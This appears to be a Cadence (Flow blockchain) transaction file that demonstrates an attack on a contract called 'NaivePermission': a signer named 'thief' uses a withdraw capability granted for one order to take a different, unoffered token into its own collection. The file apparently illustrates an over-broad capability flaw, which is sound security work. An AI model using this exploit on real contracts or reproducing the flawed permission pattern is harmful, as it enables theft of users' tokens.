import "NonFungibleToken"
import "Collectible"
import "NaivePermission"

/// A stranger takes a token that was never offered, with the right kept for another one.
transaction(orderId: String, id: UInt64) {
    prepare(thief: auth(BorrowValue) &Account) {
        let order = NaivePermission.orders[NaivePermission.find(orderId)]
        let token <- order.capability.borrow()!.withdraw(withdrawID: id)
        thief.storage.borrow<&Collectible.Collection>(from: Collectible.CollectionStoragePath)!.deposit(token: <-token)
    }
}
